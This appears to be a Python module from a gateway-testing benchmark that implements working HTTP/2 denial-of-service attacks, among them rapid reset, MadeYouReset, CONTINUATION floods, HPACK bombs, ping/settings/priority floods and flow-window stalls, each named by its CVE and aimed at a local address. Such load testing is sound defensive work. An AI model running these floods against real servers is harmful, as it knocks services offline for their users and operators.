"""The attackers that speak HTTP/2: floods of frames, and streams that are held open.

Frames are made here byte by byte, so that they may be wrong, and cost the attacker little.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from bench.attacks.attackers import Attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = 2**31 - 1
CANCEL = 8
CODES = (
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
    "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
    "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
)  # fmt: skip
"""RFC 9113 section 7, by number."""
FLOODS = 20
"""Connections of a flood at once; each is made again when it has ended."""
AT_ONCE = 100
"""Frames of a write."""
PATIENCE_S = 5.0
STREAMS = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream.to_bytes(4, "big") + payload


def get_head(path: bytes) -> bytes:
    """The head of a GET as HPACK: literals, and references to the static table."""
    return b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x01\x01h"


def window_update(stream: int, increment: int) -> bytes:
    """A frame that opens a window."""
    return frame(WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def settings_of(initial_window: int) -> bytes:
    """SETTINGS with a window for each stream."""
    return frame(
        SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + initial_window.to_bytes(4, "big")
    )


OPEN = get_head(b"/open")
LARGE = get_head(b"/open/large")


@dataclass
class H2Attack(Attack):
    """One attacker's process, which can do all attacks."""

    network = "127.1"
    """Not one that the attacked gateway trusts: a trusted proxy has larger budgets."""

    async def h2_rapid_reset(self) -> None:
        """Requests that are reset as soon as they are made (CVE-2023-44487)."""
        await self._flood(
            lambda: (
                frame(HEADERS, END_HEADERS | END_STREAM, stream, OPEN)
                + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
                for stream in range(1, MAX_WINDOW, 2)
            )
        )

    async def h2_made_you_reset(self) -> None:
        """Requests whose window overflows, so that the gateway resets them (CVE-2025-8671)."""
        await self._flood(
            lambda: (
                frame(HEADERS, END_HEADERS, stream, OPEN) + window_update(stream, MAX_WINDOW)
                for stream in range(1, MAX_WINDOW, 2)
            )
        )

    async def h2_continuations(self) -> None:
        """A head that never ends (CVE-2024-27316)."""
        line = b"\x00\x07x-field\x64" + b"x" * 100
        await self._flood(
            lambda: itertools.chain(
                [frame(HEADERS, 0, 1, OPEN)], itertools.repeat(frame(CONTINUATION, 0, 1, line))
            )
        )

    async def h2_settings(self) -> None:
        """SETTINGS, each of which wants an acknowledgement (CVE-2019-9515)."""
        await self._flood(lambda: itertools.repeat(settings_of(65_535)))

    async def h2_pings(self) -> None:
        """PINGs, each of which wants an acknowledgement (CVE-2019-9512)."""
        await self._flood(lambda: itertools.repeat(frame(PING, 0, 0, b"12345678")))

    async def h2_priorities(self) -> None:
        """PRIORITY frames, which reorder a tree (CVE-2019-9513)."""
        await self._flood(lambda: itertools.repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\0")))

    async def h2_empty_data(self) -> None:
        """DATA without a byte, of a body that is due (CVE-2019-9518)."""
        head = OPEN + b"\x0f\x0d\x06100000"
        await self._flood(
            lambda: itertools.chain(
                [frame(HEADERS, END_HEADERS, 1, head)], itertools.repeat(frame(DATA, 0, 1))
            )
        )

    async def h2_hpack_bombs(self) -> None:
        """Heads of 14 KB that unpack to 40 MB: one long field, and a byte for each time again."""
        bomb = OPEN + b"\x40\x06x-bomb\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 10_000
        await self._flood(
            lambda: (
                frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)
                for stream in range(1, MAX_WINDOW, 2)
            )
        )

    async def h2_window_dribble(self) -> None:
        """A response of 64 MiB that is taken byte by byte, as fast as they come."""
        dribble = window_update(1, 1) + window_update(0, 1)
        await self._flood(
            lambda: itertools.chain(
                [settings_of(1), frame(HEADERS, END_HEADERS | END_STREAM, 1, LARGE)],
                itertools.repeat(dribble),
            )
        )

    async def h2_window_overflow(self) -> None:
        """A window of the connection that overflows."""
        await self._flood(lambda: itertools.repeat(window_update(0, MAX_WINDOW)))

    async def h2_zero_window(self) -> None:
        """20 times 100 responses of 64 MiB, none of which is taken."""
        heads = b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, LARGE)
            for number in range(STREAMS)
        )
        await self._flood(lambda: [settings_of(0) + heads])

    async def _flood(self, frames: Callable[[], Iterator[bytes] | list[bytes]]) -> None:
        """Connections that send frames until they are ended, again and again."""

        async def pour() -> None:
            reader, writer = await self.connect()
            self.done += 1
            ended = asyncio.create_task(self._end_of(reader))
            try:
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                left = iter(frames())
                with contextlib.suppress(OSError):
                    while not ended.done() and (batch := b"".join(itertools.islice(left, AT_ONCE))):
                        writer.write(batch)
                        async with asyncio.timeout(PATIENCE_S):
                            await writer.drain()
                        await asyncio.sleep(0)
                async with asyncio.timeout(PATIENCE_S):
                    await ended
            except TimeoutError:
                self.ended["not ended"] += 1
            finally:
                ended.cancel()
                writer.transport.abort()

        await self.many(FLOODS, pour)

    async def _end_of(self, reader: asyncio.StreamReader) -> None:
        """Read until the connection, or the last of `STREAMS` streams, was ended; count how."""
        streams = 0
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while streams < STREAMS:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == GOAWAY:
                    self.ended[CODES[int.from_bytes(payload[4:8], "big")]] += 1
                    return
                if head[3] == RST_STREAM:
                    streams += 1
            self.ended["CANCEL (streams)"] += 1
            return
        self.ended["closed"] += 1


H2_ATTACKS = (
    "h2_rapid_reset", "h2_made_you_reset", "h2_continuations", "h2_settings", "h2_pings",
    "h2_priorities", "h2_empty_data", "h2_hpack_bombs", "h2_window_dribble", "h2_window_overflow",
    "h2_zero_window",
)  # fmt: skip
